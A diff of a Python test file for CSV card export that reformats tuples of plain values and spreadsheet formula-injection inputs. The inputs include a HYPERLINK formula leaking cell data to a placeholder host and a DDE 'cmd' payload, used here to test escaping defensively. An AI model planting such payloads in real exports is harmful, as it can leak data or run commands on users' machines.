@@ -13,14 +13,49 @@ from soinbox_web.model.formulas import as_text, as_typed
 from soinbox_web.model.person import CardAddress, Person
 
 FORMULAS = (
-    '=HYPERLINK("https://x.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0", "\t=1", "\r=1",
-    "\n=1", " =1", "\xa0=1", "＝1+1", "＋1+1", "－1", "＠SUM(A1)", "'=1", "''=1", '"=1', "Jansen;=1+1", "Jansen,=1+1",
-    "Jansen\t@SUM(A1)", 'x","=1', 'x";"=1', ";;;=1", "+", "=", "+31;=1", "+ ", "+31 6 1;-1",
-)  # fmt: skip
+    '=HYPERLINK("https://x.example/?"&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "=cmd|' /C calc'!A0",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    " =1",
+    "\xa0=1",
+    "＝1+1",
+    "＋1+1",
+    "－1",
+    "＠SUM(A1)",
+    "'=1",
+    "''=1",
+    '"=1',
+    "Jansen;=1+1",
+    "Jansen,=1+1",
+    "Jansen\t@SUM(A1)",
+    'x","=1',
+    'x";"=1',
+    ";;;=1",
+    "+",
+    "=",
+    "+31;=1",
+    "+ ",
+    "+31 6 1;-1",
+)
 PLAIN = (
-    "", "Anna", "Jansen-Smit", "'t Hooft", "Noordlicht; Verlichting", "+31 6 12345678", "06-1234", "a=b", "a@b.nl",
-    "De Boer (inkoop)", "Smit & Zn.", '"Zon"',
-)  # fmt: skip
+    "",
+    "Anna",
+    "Jansen-Smit",
+    "'t Hooft",
+    "Noordlicht; Verlichting",
+    "+31 6 12345678",
+    "06-1234",
+    "a=b",
+    "a@b.nl",
+    "De Boer (inkoop)",
+    "Smit & Zn.",
+    '"Zon"',
+)
 
 
 def cells(text: str) -> list[str]:
@@ -72,8 +107,12 @@ def test_a_card_with_formulas_is_the_same_after_export_and_import() -> None:
     )
     (draft,) = card_file.read_csv(card_file.write_csv([person]))
     assert draft.values == {
-        "first_name": "=Anna", "last_name": "-Vries", "title": "@work", "company": "+plus, =min", "phone": "+31 6 1",
-    }  # fmt: skip
+        "first_name": "=Anna",
+        "last_name": "-Vries",
+        "title": "@work",
+        "company": "+plus, =min",
+        "phone": "+31 6 1",
+    }
     assert draft.addresses == ("=1@x.example",)
 
 
